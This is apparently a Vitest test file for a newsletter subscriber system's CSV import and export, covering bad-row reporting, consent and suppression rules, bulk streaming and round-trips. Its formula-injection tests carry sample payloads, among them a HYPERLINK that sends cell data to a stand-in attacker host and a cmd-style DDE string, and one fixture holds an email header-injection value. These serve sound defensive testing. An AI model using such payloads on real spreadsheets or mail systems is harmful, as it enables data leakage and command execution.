import { once } from 'node:events';
import { createWriteStream, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { PassThrough, Readable } from 'node:stream';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Db } from '../../src/db/schema.js';
import {
  addSubscriber,
  eraseSubscriber,
  exportSubscribersCsv,
  getSubscriberByEmail,
  importSubscribersCsv,
  markBounced,
  suppress,
  unsubscribeAll,
} from '../../subscribers/api.js';
import { neutraliseCell } from '../../subscribers/csv-export.js';
import { seedModelSections } from '../http/support.js';
import type { TestDatabase } from '../support/test-db.js';
import { createTestDatabase } from '../support/test-db.js';

const FIXTURE = resolve(import.meta.dirname, '../fixtures/subscribers/with-bad-rows.csv');

let t: TestDatabase;
let db: Db;
beforeAll(async () => {
  t = await createTestDatabase();
  db = t.db;
  await seedModelSections(db);
});
afterAll(async () => t?.drop());
beforeEach(async () => {
  await db.deleteFrom('subscribers').execute();
  await db.deleteFrom('suppressions').execute();
  await db.deleteFrom('erased_subscribers').execute();
});

const csv = (text: string) => Readable.from([text]);

describe('CSV import', () => {
  it('imports the good rows and reports each bad row with its line number and reason', async () => {
    const summary = await importSubscribersCsv(db, FIXTURE);
    expect(summary).toMatchObject({ added: 4, updated: 0, skipped: 0, invalid: 5 });
    // Each reason in English (CLI, logs) and as a code with its values (pages say it in Chinese),
    // with the row's email cell as given, for the downloadable report.
    expect(summary.problems).toEqual([
      {
        line: 4,
        value: 'not-an-address',
        reason: 'Email address has no @',
        problem: { code: 'email-no-at', params: {} },
      },
      {
        line: 7,
        value: 'evil@example.com\nBcc: all@example.com',
        reason: 'Email address contains a line break',
        problem: { code: 'email-line-break', params: {} },
      },
      {
        line: 8,
        value: 'zhao@example.com',
        reason: 'locale "fr" is not zh-CN or en',
        problem: { code: 'csv-locale', params: { value: 'fr' } },
      },
      {
        line: 9,
        value: 'qian@example.com',
        reason: 'unknown topic: no-such-topic',
        problem: { code: 'csv-topics', params: { list: 'no-such-topic' } },
      },
      {
        line: 10,
        value: 'ZHANG@Example.com',
        reason: 'duplicate of the address on line 2',
        problem: { code: 'csv-duplicate', params: { first: 2 } },
      },
    ]);
    const li = await getSubscriberByEmail(db, 'li@example.com');
    expect(li).toMatchObject({
      name: 'Li Counsel',
      locale: 'en',
      status: 'active',
      consent_source: 'import',
    });
    expect(li?.sectionKeys).toEqual(['foreign-regulation', 'case-studies']);
    expect((await getSubscriberByEmail(db, 'wang@example.com'))?.locale).toBe('zh-CN');
    // A topic may be given by its display name too.
    expect((await getSubscriberByEmail(db, 'sun@example.com'))?.sectionKeys).toEqual(['industry-news']);
    expect((await getSubscriberByEmail(db, 'zhang@example.com'))?.all_sections).toBe(true);
  });

  it('updates existing active subscribers without changing their status', async () => {
    await addSubscriber(db, {
      email: 'a@example.com',
      name: 'Old',
      consentSource: 'editor',
      status: 'pending',
    });
    const summary = await importSubscribersCsv(
      db,
      csv('email,name,topics\na@example.com,New,case-studies\n'),
    );
    expect(summary).toMatchObject({ added: 0, updated: 1, skipped: 0, invalid: 0 });
    const a = await getSubscriberByEmail(db, 'a@example.com');
    expect(a).toMatchObject({ name: 'New', status: 'pending' });
    expect(a?.sectionKeys).toEqual(['case-studies']);
  });

  it('never re-activates or changes someone who unsubscribed, bounced, is suppressed or was erased', async () => {
    const left = await addSubscriber(db, {
      email: 'left@example.com',
      consentSource: 'form',
      status: 'active',
    });
    await unsubscribeAll(db, left.id, { via: 'test' });
    const bounced = await addSubscriber(db, { email: 'bounced@example.com', consentSource: 'import' });
    await markBounced(db, bounced.id);
    await suppress(db, { kind: 'address', value: 'blocked@example.com', reason: 'manual' });
    await suppress(db, { kind: 'domain', value: 'spam.example', reason: 'manual' });
    const erased = await addSubscriber(db, { email: 'gone@example.com', consentSource: 'import' });
    await eraseSubscriber(db, erased.id);

    const summary = await importSubscribersCsv(
      db,
      csv(
        'email,name\nleft@example.com,Back\nbounced@example.com,Back\nblocked@example.com,X\nanyone@spam.example,X\nGone@Example.com,X\nfresh@example.com,Fresh\n',
      ),
    );
    expect(summary).toMatchObject({ added: 1, updated: 0, skipped: 5, invalid: 0 });
    expect(summary.skippedReasons).toEqual({ unsubscribed: 1, bounced: 1, suppressed: 2, erased: 1 });
    expect(await getSubscriberByEmail(db, 'left@example.com')).toMatchObject({
      status: 'unsubscribed',
      name: null,
    });
    expect((await getSubscriberByEmail(db, 'bounced@example.com'))?.status).toBe('bounced');
    expect(await getSubscriberByEmail(db, 'blocked@example.com')).toBeUndefined();
    expect(await getSubscriberByEmail(db, 'anyone@spam.example')).toBeUndefined();
    expect(await getSubscriberByEmail(db, 'gone@example.com')).toBeUndefined();
  });

  it('refuses a file without an email column, naming the columns it found', async () => {
    await expect(importSubscribersCsv(db, csv('name,locale\nA,en\n'))).rejects.toThrow(
      /no email column.*name, locale/,
    );
  });

  it('reports an unreadable row and goes on with the rest', async () => {
    const summary = await importSubscribersCsv(
      db,
      csv('email,name\nok1@example.com,"broken\nok2@example.com,Fine\n'),
    );
    expect(summary.invalid).toBeGreaterThanOrEqual(1);
    expect(summary.problems[0]?.reason).toMatch(/unreadable CSV row|Quote/i);
  });

  it('streams 100,000 generated rows in batches and imports them all', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'gazette-csv-'));
    const file = join(dir, 'big.csv');
    const out = createWriteStream(file);
    out.write('email,name,locale,topics\n');
    for (let i = 0; i < 100_000; i++) {
      const topics = i % 3 === 0 ? 'case-studies;industry-news' : '';
      const line = `reader${i}@example.com,读者${i},${i % 2 ? 'en' : 'zh-CN'},${topics}\n`;
      if (!out.write(line)) await once(out, 'drain');
    }
    out.write('broken-row-without-at,x,en,\n');
    out.end();
    await once(out, 'finish');
    const summary = await importSubscribersCsv(db, file, { batchSize: 2000 });
    expect(summary).toMatchObject({ added: 100_000, updated: 0, skipped: 0, invalid: 1 });
    expect(summary.problems).toEqual([
      {
        line: 100_002,
        value: 'broken-row-without-at',
        reason: 'Email address has no @',
        problem: { code: 'email-no-at', params: {} },
      },
    ]);
    const counted = await db
      .selectFrom('subscribers')
      .select((eb) => eb.fn.countAll<string>().as('n'))
      .executeTakeFirstOrThrow();
    expect(Number(counted.n)).toBe(100_000);
    const chosen = await db
      .selectFrom('subscriber_sections')
      .select((eb) => eb.fn.countAll<string>().as('n'))
      .executeTakeFirstOrThrow();
    expect(Number(chosen.n)).toBe(Math.ceil(100_000 / 3) * 2);
    expect((await getSubscriberByEmail(db, 'reader99999@example.com'))?.name).toBe('读者99999');
  }, 180_000);
});

describe('CSV export', () => {
  it('writes the import format, and its output imports back unchanged', async () => {
    await importSubscribersCsv(db, FIXTURE);
    const sink = new PassThrough();
    const chunks: Buffer[] = [];
    sink.on('data', (c: Buffer) => chunks.push(c));
    const count = await exportSubscribersCsv(db, sink);
    const text = Buffer.concat(chunks).toString('utf8');
    expect(count).toBe(4);
    expect(text.split('\n')[0]).toBe('email,name,locale,topics,status');
    expect(text).toContain('li@example.com,Li Counsel,en,case-studies;foreign-regulation,active');
    expect(text).toContain('zhang@example.com,张律师,zh-CN,,active');
    const again = await importSubscribersCsv(db, csv(text));
    expect(again).toMatchObject({ added: 0, updated: 4, skipped: 0, invalid: 0 });
    expect((await getSubscriberByEmail(db, 'li@example.com'))?.sectionKeys).toEqual([
      'foreign-regulation',
      'case-studies',
    ]);
  });
});

describe('CSV export and spreadsheet formulas', () => {
  it.each([
    '=HYPERLINK("http://evil.example/leak?"&A2,"Click me")',
    "+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1+1)',
  ])('writes the name %j with a leading quote, so a spreadsheet shows it and never runs it', async (name) => {
    await addSubscriber(db, { email: 'formula@example.com', name, consentSource: 'import' });
    const sink = new PassThrough();
    const chunks: Buffer[] = [];
    sink.on('data', (c: Buffer) => chunks.push(c));
    await exportSubscribersCsv(db, sink);
    const { parse } = await import('csv-parse/sync');
    const rows = parse(Buffer.concat(chunks).toString('utf8'), { columns: true }) as { name: string }[];
    expect(rows[0]?.name).toBe(`'${name}`);
  });

  it('quotes a cell starting with a tab or carriage return too (OWASP)', () => {
    expect(neutraliseCell('\t=1+1')).toBe("'\t=1+1");
    expect(neutraliseCell('\r=1+1')).toBe("'\r=1+1");
    expect(neutraliseCell('a=1')).toBe('a=1');
  });

  it('leaves ordinary names alone', async () => {
    await addSubscriber(db, { email: 'plain@example.com', name: '张律师 (a-b)', consentSource: 'import' });
    const sink = new PassThrough();
    const chunks: Buffer[] = [];
    sink.on('data', (c: Buffer) => chunks.push(c));
    await exportSubscribersCsv(db, sink);
    expect(Buffer.concat(chunks).toString('utf8')).toContain('plain@example.com,张律师 (a-b),');
  });
});

describe('CSV import errors', () => {
  it('says clearly when the file does not exist', async () => {
    await expect(importSubscribersCsv(db, '/nonexistent/subscribers.csv')).rejects.toThrow(
      'Cannot read /nonexistent/subscribers.csv: no such file',
    );
  });
});
